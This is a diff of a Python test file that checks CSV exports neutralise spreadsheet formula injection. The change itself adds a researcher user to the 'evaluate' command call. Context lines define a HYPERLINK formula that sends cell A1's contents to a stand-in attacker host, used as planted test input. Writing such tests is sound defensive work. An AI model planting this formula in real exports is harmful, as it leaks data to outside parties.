@@ -22,7 +22,7 @@ from inbeeld.accounts.models import Role
 from inbeeld.reference.models import PoliceUnit
 from inbeeld.spreadsheet_safety import neutralise_cell, neutralise_frame, neutralise_rows
 from tests.conftest import verified_login
-from tests.factories import CaseFactory, make_user
+from tests.factories import CaseFactory, command_researcher, make_user
 
 FORMULA = '=HYPERLINK("http://aanvaller.invalid/?"&A1,"klik")'
 # A unit code holds at most 40 characters (PostgreSQL enforces it; SQLite does not).
@@ -142,7 +142,7 @@ def test_the_evaluation_csv_neutralises_a_planted_unit_code(tmp_path):
     generate(DemoConfig(cases=400, seed=5))
     PoliceUnit.objects.filter(code="amsterdam").update(code=CMD)
     path = tmp_path / "evaluatie.csv"
-    call_command("evaluate", format="csv", output=str(path))
+    call_command("evaluate", format="csv", user=command_researcher().username, output=str(path))
     cells = _cells(path.read_text(encoding="utf-8"))
     assert "'" + CMD in cells  # the bottleneck row of the planted unit
     _assert_no_formula(cells)
